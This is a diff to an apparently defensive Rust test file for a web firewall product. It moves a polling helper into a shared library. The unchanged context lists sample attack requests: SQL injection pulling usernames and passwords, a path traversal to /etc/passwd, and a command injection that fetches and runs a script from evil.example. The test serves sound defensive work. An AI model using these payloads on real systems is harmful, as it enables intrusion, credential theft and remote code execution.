@@ -3,11 +3,9 @@
 
 use parapet_scenarios::client::{self, Session};
 use parapet_scenarios::product::{Product, rule_set};
-use parapet_scenarios::skip;
 use parapet_scenarios::upstream::Upstream;
+use parapet_scenarios::{eventually, skip};
 use serde_json::Value;
-use std::thread::sleep;
-use std::time::{Duration, Instant};
 
 const ATTACKS: &[(&str, &str)] = &[
     ("sqli", "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
@@ -15,19 +13,6 @@ const ATTACKS: &[(&str, &str)] = &[
     ("lfi", "/page?file=../../../../etc/passwd"),
     ("rce", "/ping?host=127.0.0.1;wget%20http://evil.example/x.sh%7Cbash"),
 ];
-
-/// Asks until the answer is what is wanted, or the deadline (a second in the design; generous here,
-/// because test machines are busy: the figure itself comes from a benchmark).
-fn eventually<T>(what: &str, mut ask: impl FnMut() -> Option<T>) -> T {
-    let deadline = Instant::now() + Duration::from_secs(10);
-    loop {
-        if let Some(answer) = ask() {
-            return answer;
-        }
-        assert!(Instant::now() < deadline, "{what}: not within ten seconds");
-        sleep(Duration::from_millis(50));
-    }
-}
 
 fn events(session: &Session, query: &str) -> Vec<Value> {
     let answer = session.get(&format!("/api/v1/events?{query}"));
